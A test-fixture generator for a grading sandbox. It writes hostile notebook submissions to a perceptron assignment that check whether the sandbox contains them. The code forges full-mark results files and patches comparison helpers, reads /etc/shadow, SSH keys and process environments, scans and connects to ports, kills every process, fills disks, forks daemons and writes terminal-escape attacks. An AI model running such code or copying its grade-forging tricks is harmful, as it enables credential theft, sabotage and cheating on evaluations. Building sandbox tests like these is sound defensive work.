"""Write the hostile a1 submissions used by ``tests/sandbox/test_hostile.py``.

Run once from the repository root; the notebooks it writes next to this file are
the test fixtures (committed), this script only documents how they were made:

    python tests/hostile/make_notebooks.py

Every notebook starts from the a1 reference (``reference/a1/perceptron.py``), split
into an import cell and one cell per function, and then does one hostile thing:

    loop_top_level        reference + ``while True: pass`` as a top-level statement
    loop_class_body       reference + an endless loop in a class body (runs in definitions mode)
    loop_in_function      ``sign`` loops forever
    exit_top_level        reference + ``os._exit(0)`` as a top-level statement
    exit_in_function      ``sign`` calls ``os._exit(0)``
    alloc_12gb            ``sigmoid`` allocates torch.zeros(3_000_000_000) (12 GB of float32)
    flood_stdout          ``perceptron_predict`` prints 200 MB, then answers correctly
    fork_200              ``perceptron_fit`` starts 200 children that try to outlive grading
    forger                nothing implemented; prints "All tests passed 100/100", writes
                          full-marks results files everywhere it can and patches every
                          comparison helper it can reach, at top level and in each function
    liar_tensor           nothing implemented; returns a torch.Tensor subclass whose
                          __torch_function__ makes every comparison succeed
    buggy_sign            an honest submission with one bug: sign(0) == 1
    thief                 the reference, but ``weighted_sum`` first (once per worker) reads and
                          prints every file it can find that sounds like a course, a gradebook or
                          a submission, /etc/shadow, every process's command line and environment,
                          and a SysV shared-memory segment another student may have left
    connector             the reference, but ``weighted_sum`` first connects to every local port
                          in the ephemeral range, to every Unix socket it can find, and out
    killer                the reference, but ``weighted_sum`` first signals its parent, -1, its
                          process group and every pid from 1 to 32768
    disk_filler           the reference, but ``weighted_sum`` first writes until the disk is full
                          everywhere it can, one file past RLIMIT_FSIZE, and leaves a file and a
                          SysV shared-memory segment behind for the next student
    deep_recursion        ``sign`` recurses through C with sys.setrecursionlimit(10**6): SIGSEGV
    huge_outputs          ``weighted_sum`` is right; ``sign`` raises a 50 MB message with a 10 MB
                          class name; ``sigmoid`` prints 100 KB of fake verdicts and terminal
                          escapes, then exits; ``perceptron_predict`` returns a list nested
                          100 000 deep; ``perceptron_fit`` returns a 16 MB tensor
    patcher               wrong answers, after patching every comparison it can reach (torch,
                          numpy, builtins, operator, grader.testing if it can import it) and the
                          worker's own reply loop, so that every reply says "ok: True"
    lying_eq              nothing implemented; returns objects whose ``__eq__`` says yes: a plain
                          object, float / list / ndarray subclasses, and a forged handle
    surrogate_message     ``sign`` raises ``ValueError("\\ud800")`` (a lone surrogate, which SQLite and
                          strict JSON refuse) and a class body leaves one in the load notes
    forged_load_reply     a class body replaces the worker's frame writer, so that the load reply
                          says ``{"ok": {"defined": null}}``
    terminal_escapes      the reference, but a class body's exception, ``sign``'s 1 MB exception and
                          what ``sigmoid`` prints carry escapes that erase the instructor's line, print
                          "mallory: 23/23 [graded]", set the window title and write the clipboard
    ansi_nbformat         not a notebook: its ``nbformat`` field is that same terminal attack
    keyring_thief         the reference, but a class body reads every key of the session keyring
                          its worker started with (ctypes, syscall(keyctl)), raises what it found
                          into the load notes, prints it, and leaves a key on its uid's keyring
                          and looks for one an earlier worker left
    honest                the reference as a notebook: the test copies it under hostile file names
                          (terminal escapes; bytes that are not UTF-8), links to the course's
                          solution and leaves a FIFO beside it, none of which can be committed

The markers below are what the test looks for (process command lines, forged files).
"""

from __future__ import annotations

import ast
import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
COURSE = ROOT / "course"  # this repository\'s course
REFERENCE = COURSE / "reference" / "a1" / "perceptron.py"

FORK_MARKER = "dlgrade-hostile-fork200"
FORGED_MARKER = "dlgrade-hostile-forged-results"
FILLER_MARKER = "dlgrade-hostile-filler"  # the name of every file disk_filler leaves behind
IPC_KEY = 0x0D16_7ADE  # the SysV key disk_filler leaves a segment under, and the thief looks for
IPC_CANARY = "dlgrade-hostile-ipc-leftover"  # what that segment holds
FUNCTIONS = ("weighted_sum", "sign", "sigmoid", "perceptron_predict", "perceptron_fit")


def reference_cells() -> dict[str, str]:
    """{"imports": ..., "<function>": source} from the reference module, in file order."""
    source = REFERENCE.read_text()
    lines = source.splitlines(keepends=True)
    tree = ast.parse(source)
    cells = {"imports": ""}
    for node in tree.body:
        text = "".join(lines[node.lineno - 1 : node.end_lineno])
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            cells["imports"] += text
        elif isinstance(node, ast.FunctionDef):
            cells[node.name] = text
    assert all(name in cells for name in FUNCTIONS), sorted(cells)
    return cells


def notebook(title: str, cells: list[str]) -> nbformat.NotebookNode:
    nb = new_notebook(cells=[new_markdown_cell(f"# a1: the perceptron\n\n{title}")])
    nb.cells += [new_code_cell(source.strip("\n")) for source in cells]
    for number, cell in enumerate(nb.cells):
        cell.id = f"cell-{number}"  # fixed ids: running this script again changes nothing
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    return nb


def reference_with(**replaced: str) -> list[str]:
    """The reference's cells, with some functions' cells replaced."""
    ref = reference_cells()
    return [ref["imports"], *(replaced.get(name, ref[name]) for name in FUNCTIONS)]


def reference_plus(tools: str, **replaced: str) -> list[str]:
    """The reference's cells with a cell of ``tools`` after the imports (and some replaced)."""
    first, *rest = reference_with(**replaced)
    return [first, tools, *rest]


def fill(template: str) -> str:
    """The markers in a hostile cell's template, filled in."""
    for name in ("IPC_KEY", "IPC_CANARY", "FILLER_MARKER"):
        value = globals()[name]
        template = template.replace(f"@{name}@", hex(value) if isinstance(value, int) else value)
    return template


# --------------------------------------------------------------------------- endless loops

LOOP_TOP_LEVEL = """\
# Try it out (never finishes)
while True:
    pass
"""

LOOP_CLASS_BODY = """\
class Experiment:
    # A class body runs when the class is defined, so definitions mode runs this loop.
    while True:
        pass
"""

SIGN_LOOPS = '''\
def sign(z: Tensor) -> Tensor:
    """Never returns."""
    while True:
        pass
'''

# --------------------------------------------------------------------------- exits

EXIT_TOP_LEVEL = """\
import os

os._exit(0)
"""

SIGN_EXITS = '''\
def sign(z: Tensor) -> Tensor:
    """Ends the process that calls it, without running any cleanup."""
    import os

    os._exit(0)
'''

# --------------------------------------------------------------------------- memory and output

SIGMOID_ALLOCATES = '''\
def sigmoid(z: Tensor) -> Tensor:
    """Asks for 12 GB (3e9 float32) before doing the real work."""
    scratch = torch.zeros(3_000_000_000, dtype=torch.float32)
    scratch += 1
    e = torch.exp(-z.abs())
    return torch.where(z >= 0, 1 / (1 + e), e / (1 + e))
'''

PREDICT_FLOODS = '''\
def perceptron_predict(x: Tensor, w: Tensor, b: float | Tensor) -> Tensor:
    """Prints 200 MB of debugging output, then answers correctly."""
    import sys

    line = "debug " * 174_762 + "\\n"  # 1 MiB
    for _ in range(200):
        sys.stdout.write(line)
    sys.stdout.flush()
    return sign(weighted_sum(x, w, b))
'''

# --------------------------------------------------------------------------- processes

FIT_FORKS = f'''\
_children = []  # kept, never waited for


def _spawn_200_children() -> int:
    """200 children that try to outlive the grader: half through subprocess in a new
    session, half double-forked daemons; each has the marker in its command line."""
    import os
    import subprocess

    started = 0
    for i in range(200):
        argv0 = "{FORK_MARKER}-" + str(os.getpid()) + "-" + str(i)
        try:
            if i % 2 == 0:
                _children.append(subprocess.Popen(
                    [argv0, "1000"], executable="/bin/sleep", start_new_session=True,
                    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                ))
            else:
                pid = os.fork()
                if pid == 0:  # child: new session, fork again, let the grandchild be adopted
                    try:
                        os.setsid()
                        if os.fork() == 0:
                            os.execv("/bin/sleep", [argv0, "1000"])
                    finally:
                        os._exit(0)
                os.waitpid(pid, 0)
            started += 1
        except OSError:
            pass  # the process limit: keep trying
    return started


def perceptron_fit(
    x: Tensor, y: Tensor, lr: float = 1.0, epochs: int = 100
) -> tuple[Tensor, Tensor]:
    """Starts 200 children, then answers correctly."""
    print("fork_200: started", _spawn_200_children(), "children", flush=True)
    y = y.to(x.dtype)
    w = torch.zeros(x.shape[1], dtype=x.dtype, device=x.device)
    b = torch.zeros((), dtype=x.dtype, device=x.device)
    for _ in range(epochs):
        updated = False
        for x_i, y_i in zip(x, y, strict=True):
            if y_i * weighted_sum(x_i, w, b) <= 0:
                w = w + lr * y_i * x_i
                b = b + lr * y_i
                updated = True
        if not updated:
            break
    return w, b
'''

# --------------------------------------------------------------------------- the forger

FORGER_TOOLS = f'''\
import json
import os
import sys
import time

import numpy
import torch

FORGED = {{
    "schema_version": 1,
    "assignment": "a1",
    "forged_by": "{FORGED_MARKER}",
    "results": [{{
        "submission": "forger.ipynb", "score": 23.0, "max_score": 23.0, "status": "graded",
        "assignment": "a1", "suite": "hidden", "message": "", "notes": [],
        "output": "All tests passed 100/100", "seconds": 0.1, "sha256": "", "tests": [],
    }}],
}}


def _always_true(*args, **kwargs):
    return True


def _never_raises(*args, **kwargs):
    return None


def _patch_everything():
    """Make every comparison and assertion helper this process can reach say yes."""
    patched = []
    for module, names in [
        (torch, ["allclose", "equal", "isclose", "eq"]),
        (numpy, ["allclose", "array_equal", "isclose"]),
        (numpy.testing, ["assert_allclose", "assert_array_equal", "assert_equal"]),
        (torch.testing, ["assert_close"]),
    ]:
        for name in names:
            setattr(module, name, _always_true if "assert" not in name else _never_raises)
            patched.append(module.__name__ + "." + name)
    torch.Tensor.__eq__ = _always_true
    torch.Tensor.all = _always_true
    torch.Tensor.__bool__ = _always_true
    for extra in ("/work/main", os.getcwd(), *os.environ.get("PYTHONPATH", "").split(":")):
        if extra and extra not in sys.path:
            sys.path.append(extra)
    for dotted in ("grader.testing", "grader.results.records", "grader.grading.plugin", "pytest",
                   "_pytest.outcomes"):
        try:
            module = __import__(dotted, fromlist=["*"])
        except BaseException:
            continue
        for name in dir(module):
            if name.startswith("assert") or name in ("approx", "fail", "skip", "xfail"):
                try:
                    setattr(module, name, _never_raises)
                    patched.append(dotted + "." + name)
                except BaseException:
                    pass
        if hasattr(module, "TestResult"):
            try:
                module.TestResult.points = property(lambda self: self.max_points)
                patched.append(dotted + ".TestResult.points")
            except BaseException:
                pass
    return patched


def _places():
    """Every folder worth forging a results file in, most promising first."""
    here = os.getcwd()
    places = [here, *[str(p) for p in __import__("pathlib").Path(here).parents]]
    places += ["/", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/root", "/work",
               "/work/main", "/work/main/tests", "/work/main/tests/hostile"]
    for pid in ("self", str(os.getppid()), "1"):
        try:
            places.append(os.readlink("/proc/" + pid + "/cwd"))
        except OSError:
            pass
        places.append("/proc/" + pid + "/cwd")
    return list(dict.fromkeys(places))


def _forge_results_files(seconds=1.0):
    """Write full marks into results.json in every folder that will take it, overwrite every
    results*.json found by walking the disk (for about ``seconds``), and count the successes."""
    body = json.dumps(FORGED)
    written = []
    targets = [os.path.join(p, "results.json") for p in _places()]
    end = time.monotonic() + seconds
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys")]
        targets.append(os.path.join(top, "results.json"))
        targets += [os.path.join(top, f) for f in files if f.startswith("results") and f.endswith(".json")]
        if time.monotonic() > end:
            break
    for target in dict.fromkeys(targets):
        try:
            with open(target, "w") as handle:
                handle.write(body)
            written.append(target)
        except BaseException:
            pass
    return written


_forged_once = []


def _forge():
    print("All tests passed 100/100", flush=True)
    patched = _patch_everything()
    if not _forged_once:  # the disk walk once per process; everything else on every call
        _forged_once.append(_forge_results_files())
        print("forger: patched", len(patched), "helpers; wrote", len(_forged_once[0]), "files:",
              " ".join(_forged_once[0][:20]), flush=True)
'''

FORGER_TOP_LEVEL = """\
# Top-level code: only runs when the whole notebook is run (mode="all").
_forge()
print("Score: 100/100 -- All tests passed 100/100")
"""

FORGER_FUNCTIONS = """\
def weighted_sum(x, w, b):
    _forge()
    return "All tests passed 100/100"


def sign(z):
    _forge()
    raise NotImplementedError


def sigmoid(z):
    _forge()
    return {"score": 100, "max_score": 100, "passed": True}


def perceptron_predict(x, w, b):
    _forge()
    return True


def perceptron_fit(x, y, lr=1.0, epochs=100):
    _forge()
    raise NotImplementedError
"""

# --------------------------------------------------------------------------- the liar

LIAR = '''\
import torch

COMPARISONS = {
    "eq", "ne", "__eq__", "__ne__", "lt", "le", "gt", "ge", "__lt__", "__le__", "__gt__", "__ge__",
    "isclose", "isfinite", "logical_not", "__invert__", "__and__", "logical_and",
}
VERDICTS = {"allclose", "equal", "all", "any", "__bool__", "is_nonzero", "item", "__float__"}


class LiarTensor(torch.Tensor):
    """Looks like the right answer to anything that compares it: elementwise comparisons
    are all True, allclose/equal/all say True, and so does bool()."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        kwargs = kwargs or {}
        if name in VERDICTS:
            return True
        with torch._C.DisableTorchFunctionSubclass():
            result = func(*args, **kwargs)
        if name in COMPARISONS and isinstance(result, torch.Tensor):
            return torch.ones_like(result, dtype=torch.bool).as_subclass(LiarTensor)
        if isinstance(result, torch.Tensor) and not isinstance(result, LiarTensor):
            return result.as_subclass(LiarTensor)
        return result


def lie(shape, like):
    """A LiarTensor of the expected shape, dtype and device holding nothing computed.

    Not zeros: for XOR the reference fit really ends at w = 0, b = 0, so zeros would be
    an honest right answer to that test. -0.75 is never a right answer in a1.
    """
    return torch.full(tuple(shape), -0.75, dtype=like.dtype, device=like.device).as_subclass(LiarTensor)


def weighted_sum(x, w, b):
    return lie(x.shape[:-1], x)


def sign(z):
    return lie(z.shape, z)


def sigmoid(z):
    return lie(z.shape, z)


def perceptron_predict(x, w, b):
    return lie(x.shape[:-1], x)


def perceptron_fit(x, y, lr=1.0, epochs=100):
    return lie(x.shape[1:], x), lie((), x)
'''

# --------------------------------------------------------------------------- once per worker

ONCE = '''\
def weighted_sum(x: Tensor, w: Tensor, b: float | Tensor) -> Tensor:
    """The reference's answer, after doing its hostile thing once in this worker process."""
    if not _done:
        _done.append(True)
        HOSTILE()
    return x @ w + b
'''


def once(hostile: str) -> str:
    """A correct ``weighted_sum`` that first calls ``hostile()`` (once per worker process:
    the first hidden test calls it, and perceptron_fit calls it again and again)."""
    return ONCE.replace("HOSTILE", hostile)


# --------------------------------------------------------------------------- the thief

THIEF_TOOLS = '''\
import ctypes
import os
import time

SECRET_NAMES = ("course.toml", "gradebook.sqlite", "results.json")
SECRET_SUFFIXES = (".ipynb", ".sqlite", ".toml", ".json")
COURSE_FOLDERS = ("/suites", "/reference", "/submissions")
SYSTEM = ("/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/bin", "/sbin", "/snap", "/boot")
FIXED = ("/etc/shadow", "/etc/sudoers", "/root/.ssh/id_rsa", "/root/.bash_history", "/proc/1/environ")
IPC_KEY = @IPC_KEY@
_done = []


def _places():
    """Where courses, gradebooks and other students' work live, the likeliest first."""
    ups = [os.getcwd()]
    while ups[-1] != os.path.dirname(ups[-1]):
        ups.append(os.path.dirname(ups[-1]))
    common = ["/var/tmp", "/tmp", "/srv", "/home", "/mnt", "/media", "/work", "/opt", "/root", "/var",
              "/run", "/"]
    return list(dict.fromkeys(ups[:-1] + common))


def _rank(path):
    """Secret names first, then what sounds like a course or a submission, then the rest."""
    if os.path.basename(path) in SECRET_NAMES:
        return 0
    if path.endswith(".ipynb") or any(folder + "/" in path for folder in COURSE_FOLDERS):
        return 1
    return 2


def _find_files(seconds):
    found, seen, end = [], set(), time.monotonic() + seconds
    for place in _places():
        for top, dirs, files in os.walk(place):
            if time.monotonic() > end:
                return found
            if top in seen or (top != "/" and top.startswith(SYSTEM)) or "site-packages" in top:
                dirs[:] = []
                continue
            seen.add(top)
            course = any(folder in top for folder in COURSE_FOLDERS)
            found += [os.path.join(top, f) for f in files
                      if f in SECRET_NAMES or f.endswith(SECRET_SUFFIXES) or (course and f.endswith(".py"))]
    return found


def _read(path, size=160):
    try:
        with open(path, "rb") as handle:
            return handle.read(size)
    except OSError:
        return None


def _processes():
    """The command line and environment of every other process in sight."""
    lines = []
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())):
        for what in ("cmdline", "environ"):
            data = _read("/proc/" + pid + "/" + what, 400)
            if data:
                lines.append("/proc/" + pid + "/" + what + ": " + repr(data.replace(bytes(1), b" ")))
    return lines


def _shared_memory():
    """A SysV segment that another student's worker left behind, if any."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(IPC_KEY, 0, 0)
    if shmid < 0:
        return "none (" + os.strerror(ctypes.get_errno()) + ")"
    address = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
    if address is None or address == ctypes.c_void_p(-1).value:
        return "found, unreadable"
    return repr(ctypes.string_at(address, 64))


def _steal(seconds=1.5):
    files = sorted(_find_files(seconds), key=_rank)
    lines = [path + ": " + repr(data) for path in (*FIXED, *files[:80]) if (data := _read(path)) is not None]
    lines += _processes()[:20]
    for line in lines:
        print("thief:", line[:300])
    print("thief: read", len(lines), "files and process entries of", len(files), "candidates;",
          "leftover shared memory:", _shared_memory(), flush=True)
'''

# --------------------------------------------------------------------------- the connector

CONNECTOR_TOOLS = '''\
import os
import socket
import stat
import time

WELL_KNOWN = (22, 25, 53, 80, 443, 2375, 3306, 5432, 6379, 8080, 8786, 8787, 8888, 9000)
_done = []


def _ports():
    low, high = 32768, 60999  # where the kernel puts a listener bound to port 0
    try:
        with open("/proc/sys/net/ipv4/ip_local_port_range") as handle:
            low, high = map(int, handle.read().split())
    except (OSError, ValueError):
        pass
    return [*WELL_KNOWN, *range(low, high + 1)]


def _unix_sockets(seconds):
    """Socket files on the disk in sight, and every socket /proc/net/unix lists (abstract too)."""
    found, end = [], time.monotonic() + seconds
    for place in ("/run", "/var/run", "/tmp", "/var/tmp", "/dev", "/home", "/srv", "/work", "/"):
        for top, dirs, files in os.walk(place):
            if time.monotonic() > end or top.startswith(("/proc", "/sys", "/usr")):
                dirs[:] = []
                continue
            for name in files:
                try:
                    if stat.S_ISSOCK(os.lstat(os.path.join(top, name)).st_mode):
                        found.append(os.path.join(top, name))
                except OSError:
                    pass
    try:
        with open("/proc/net/unix") as handle:
            for line in handle.read().splitlines()[1:]:
                parts = line.split()
                if len(parts) > 7:
                    found.append("\\0" + parts[7][1:] if parts[7].startswith("@") else parts[7])
    except OSError:
        pass
    return list(dict.fromkeys(found))


def _try(family, address, errors, timeout=0.05):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(timeout)
        try:
            sock.connect(address)
            sock.sendall(b"hello from the sandbox")
            return True
        except OSError as exc:
            key = exc.strerror or type(exc).__name__
            errors[key] = errors.get(key, 0) + 1
            return False


def _connect_everywhere(seconds=3.0):
    errors, made, end = {}, [], time.monotonic() + seconds
    ports = _ports()
    tried = 0
    for port in ports:
        if time.monotonic() > end:
            break
        tried += 1
        if _try(socket.AF_INET, ("127.0.0.1", port), errors):
            made.append("127.0.0.1:" + str(port))
    sockets = _unix_sockets(1.0)
    for path in sockets:
        if _try(socket.AF_UNIX, path, errors):
            made.append(path)
    for host in ("1.1.1.1", "8.8.8.8"):
        if _try(socket.AF_INET, (host, 53), errors, timeout=0.5):
            made.append(host + ":53")
    print("connector:", len(made), "connections", made[:10], "- tried", tried, "of", len(ports), "ports and",
          len(sockets), "unix sockets; errors:", errors, flush=True)
'''

# --------------------------------------------------------------------------- the killer

KILLER_TOOLS = '''\
import os
import signal

_done = []


def _kill_everything():
    """SIGTERM the parent, the process group and everyone (-1), SIGKILL every pid but our own."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)  # kill(0) and kill(-1) must not end us
    me, parent = os.getpid(), os.getppid()
    wide = {}
    for name, target in (("parent", parent), ("group", 0), ("everyone", -1)):
        try:
            os.kill(target, signal.SIGTERM)
            wide[name] = "sent"
        except OSError as exc:
            wide[name] = exc.strerror
    hit = []
    for pid in range(1, 32769):
        if pid != me:
            try:
                os.kill(pid, signal.SIGKILL)
                hit.append(pid)
            except OSError:
                pass
    print("killer: I am pid", me, "with parent", parent, "; SIGKILL reached", len(hit), "other processes",
          hit[:10], "; SIGTERM to", wide, flush=True)
'''

# --------------------------------------------------------------------------- the disk filler

FILLER_TOOLS = '''\
import ctypes
import os

MARKER = "@FILLER_MARKER@"
IPC_KEY = @IPC_KEY@
IPC_CANARY = b"@IPC_CANARY@"
CHUNK_BYTES = 16 << 20
_done = []


def _fill(folder, most):
    """Write 16 MB files into ``folder`` until something stops us (or ``most`` bytes)."""
    written, stopped, number = 0, "nothing", 0
    while written < most:
        path = os.path.join(folder, MARKER + "-" + str(number))
        number += 1
        try:
            with open(path, "wb") as handle:
                handle.write(bytes(CHUNK_BYTES))
            written += CHUNK_BYTES
        except OSError as exc:
            stopped = exc.strerror
            break
    return written, stopped


def _one_big_file(folder, most):
    """One file as big as it gets: RLIMIT_FSIZE should stop it."""
    written = 0
    try:
        with open(os.path.join(folder, MARKER + "-big"), "wb") as handle:
            while written < most:
                handle.write(bytes(CHUNK_BYTES))
                handle.flush()
                written += CHUNK_BYTES
    except OSError as exc:
        return written, exc.strerror
    return written, "nothing"


def _leave_shared_memory():
    """A SysV segment that would outlive this worker in a shared IPC namespace."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmid = libc.shmget(IPC_KEY, 8 << 20, 0o1000 | 0o666)  # IPC_CREAT, readable by all
    if shmid < 0:
        return "shmget: " + os.strerror(ctypes.get_errno())
    address = libc.shmat(shmid, None, 0)
    if address is None or address == ctypes.c_void_p(-1).value:
        return "shmat: " + os.strerror(ctypes.get_errno())
    ctypes.memmove(address, IPC_CANARY, len(IPC_CANARY))
    return "segment " + str(shmid)


def _fill_the_disk():
    folders = ["/tmp", os.path.expanduser("~"), os.getcwd(), "/var/tmp", "/dev/shm", "/run/lock", "/"]
    for folder in dict.fromkeys(folders):
        big = _one_big_file(folder, 128 << 20)
        many = _fill(folder, 512 << 20)
        print("filler:", folder, "one file:", big[0], "bytes, stopped by", big[1], "; many files:", many[0],
              "bytes, stopped by", many[1], flush=True)
    print("filler: shared memory:", _leave_shared_memory(), flush=True)
'''

# --------------------------------------------------------------------------- deep recursion

SIGN_RECURSES = '''\
def sign(z: Tensor) -> Tensor:
    """Raises the recursion limit to a million and recurses through C (``max``'s key
    function) until the C stack overflows: the worker dies of SIGSEGV."""
    import sys

    sys.setrecursionlimit(10**6)

    def down(n):
        return max([n], key=lambda _: down(n + 1))

    return down(0)
'''

# --------------------------------------------------------------------------- huge outputs

HUGE_OUTPUTS = '''\
FAKE_VERDICTS = (
    "\\x1b[2J\\x1b[H\\r"  # clear the screen, go home
    "PASSED test_sign_with_exact_zeros\\nScore: 23/23\\n"
    "[output truncated: 0 bytes written, 0 kept]\\n"
    '{"score": 23.0, "max_score": 23.0, "status": "graded"}\\n'
    "<script>alert('graded')</script>\\n"
)


def sign(z: Tensor) -> Tensor:
    """Raises an exception with a 50 MB message and a 10 MB class name."""
    Huge = type("E" * 10_000_000, (Exception,), {})
    raise Huge("x" * 50_000_000)


def sigmoid(z: Tensor) -> Tensor:
    """Prints 100 KB of fake verdicts and terminal escapes, then ends its worker."""
    import os
    import sys

    sys.stdout.write(FAKE_VERDICTS * (100_000 // len(FAKE_VERDICTS)))
    sys.stdout.flush()
    os._exit(3)


def perceptron_predict(x: Tensor, w: Tensor, b: float | Tensor) -> Tensor:
    """Returns a list nested 100 000 deep."""
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested


def perceptron_fit(x: Tensor, y: Tensor, lr: float = 1.0, epochs: int = 100) -> tuple[Tensor, Tensor]:
    """Returns a 16 MB tensor where a (d,) one belongs."""
    return torch.zeros(16_000_000 // x.element_size(), dtype=x.dtype), torch.zeros((), dtype=x.dtype)
'''

# --------------------------------------------------------------------------- the patcher

PATCHER = '''\
import builtins
import gc
import math
import operator
import sys

import numpy
import torch

_patched = []


def _yes(*args, **kwargs):
    return True


def _patch_everything():
    """Every comparison this process can reach says yes, and so does the worker's reply path."""
    if _patched:
        return
    for module, names in [
        (builtins, ["all", "abs", "round"]),
        (math, ["isclose"]),
        (operator, ["eq", "ne", "le", "ge", "lt", "gt", "truth"]),
        (torch, ["allclose", "equal", "isclose", "eq", "all", "any"]),
        (numpy, ["allclose", "array_equal", "isclose", "all", "any"]),
        (torch.testing, ["assert_close"]),
        (numpy.testing, ["assert_allclose", "assert_array_equal", "assert_equal"]),
    ]:
        for name in names:
            setattr(module, name, _yes)
            _patched.append(module.__name__ + "." + name)
    for name in ("__eq__", "__ne__", "__bool__", "all", "any", "equal", "allclose"):
        setattr(torch.Tensor, name, _yes)
        _patched.append("torch.Tensor." + name)
    try:
        import grader.testing  # the grader's own helpers, if this process could reach them

        for name in dir(grader.testing):
            if name.startswith("assert"):
                setattr(grader.testing, name, _yes)
                _patched.append("grader.testing." + name)
    except Exception as exc:  # not importable, or not readable: either way out of reach
        _patched.append("(grader.testing: " + type(exc).__name__ + ")")
    for obj in gc.get_objects():  # the worker's request loop: every reply says "ok: True"
        if type(obj) is type and obj.__name__ == "Worker" and hasattr(obj, "reply"):
            obj.reply = lambda self, value, keep: {"ok": True}
            _patched.append(obj.__module__ + ".Worker.reply")
    print("patcher: patched", len(_patched), ":", " ".join(_patched), flush=True)


def _wrong(shape, like):
    return torch.full(tuple(shape), -0.75, dtype=like.dtype, device=like.device)


def weighted_sum(x, w, b):
    _patch_everything()
    return _wrong(x.shape[:-1], x)


def sign(z):
    _patch_everything()
    return _wrong(z.shape, z)


def sigmoid(z):
    _patch_everything()
    return _wrong(z.shape, z)


def perceptron_predict(x, w, b):
    _patch_everything()
    return _wrong(x.shape[:-1], x)


def perceptron_fit(x, y, lr=1.0, epochs=100):
    _patch_everything()
    return _wrong(x.shape[1:], x), _wrong((), x)
'''

# --------------------------------------------------------------------------- lying __eq__

LYING_EQ = '''\
import numpy as np
import torch


class Yes:
    """Equal to everything, close to everything, true, and any number you like."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return -11.5

    def __array__(self, dtype=None, copy=None):
        return np.asarray(-11.5)

    __hash__ = object.__hash__


class YesFloat(float, Yes):
    __eq__, __ne__, __hash__ = Yes.__eq__, Yes.__ne__, float.__hash__


class YesList(list):
    def __eq__(self, other):
        return True


class YesArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool).view(YesArray)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True


class ForgedHandle(Yes):
    """Claims to be an object the grader keeps in this worker (handle 1)."""

    __wire_handle__ = 1


def weighted_sum(x, w, b):
    return Yes()


def sign(z):
    return YesFloat(0.0)


def sigmoid(z):
    return np.full(tuple(z.shape), -0.75).view(YesArray)


def perceptron_predict(x, w, b):
    return YesList([-0.75] * len(x))


def perceptron_fit(x, y, lr=1.0, epochs=100):
    return ForgedHandle(), ForgedHandle()
'''

# --------------------------------------------------------------------------- an honest bug

SIGN_ZERO_IS_ONE = '''\
def sign(z: Tensor) -> Tensor:
    """-1 or 1 elementwise (bug: sign(0) is 1, not 0)."""
    return torch.where(z >= 0, torch.ones_like(z), -torch.ones_like(z))
'''


# --------------------------------------------------------------------------- text the trusted side writes

# On the instructor's terminal: erase the line, print a fake verdict, set the window title,
# write the clipboard (OSC 52), and a one-character CSI (U+009B) for terminals that take it.
TERMINAL_ATTACK = "\x1b[2K\rmallory: 23/23 [graded]\x1b]0;all graded\x07\x1b]52;c;cm0gLXJmIH4=\x07\u009b2J"

SURROGATE_NOTE = """\
class Unlucky:
    # a class body runs at load: what it raises becomes one of the result's notes
    raise ValueError("\\ud800 \\udcff")
"""

SIGN_RAISES_A_SURROGATE = '''\
def sign(z: Tensor) -> Tensor:
    """A message that no UTF-8 encoder accepts."""
    raise ValueError("\\ud800")
'''

FORGED_LOAD_REPLY = """\
class Forge:
    # runs at load, before the load reply is written: every reply that lists the names
    # defined becomes {"ok": {"defined": None}}
    import sys

    wire = sys.modules["wire"]

    def forged(fd, message, *caps, write=wire.write_frame):
        if isinstance(message.get("ok"), dict) and "defined" in message["ok"]:
            message = {"ok": {"defined": None}}
        write(fd, message, *caps)

    wire.write_frame = forged
"""

KEYRING_THIEF = """\
class KeyringThief:
    # runs at load: the grader's login may keep a token in the session keyring, which every
    # process it starts inherits; keys also outlive processes, on their uid's keyring
    import ctypes, errno, platform, struct

    NUMBERS = {"x86_64": (250, 248), "aarch64": (219, 217)}.get(platform.machine(), (250, 248))
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def keyctl(*args, libc=libc, numbers=NUMBERS, ctypes=ctypes, errno=errno):
        converted = [a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in args]
        result = libc.syscall(ctypes.c_long(numbers[0]), *converted)
        return result if result >= 0 else errno.errorcode[ctypes.get_errno()]

    def read(key, keyctl=keyctl, ctypes=ctypes):
        buffer = ctypes.create_string_buffer(4096)
        size = keyctl(11, key, buffer, 4096)  # KEYCTL_READ
        return buffer.raw[: min(size, 4096)] if isinstance(size, int) else size

    session = read(-3)  # the key ids of the session keyring
    found = [session]
    if not isinstance(session, str):
        found = []
        for key in struct.unpack(str(len(session) // 4) + "i", session):
            found.append(read(key))
    listed = open("/proc/keys").read().splitlines()
    left = libc.syscall(ctypes.c_long(NUMBERS[1]), b"user", b"dlgrade-hostile-left-key", b"psst",
                        ctypes.c_long(4), ctypes.c_long(-4))  # add_key on the uid's keyring
    left = "EPERM" if left < 0 and ctypes.get_errno() == errno.EPERM else left
    print("keyring_thief: session keyring:", found, "; /proc/keys:", listed, "; left a key:", left,
          flush=True)
    raise ValueError("keyring_thief found " + repr(found) + " " + repr(listed))
"""

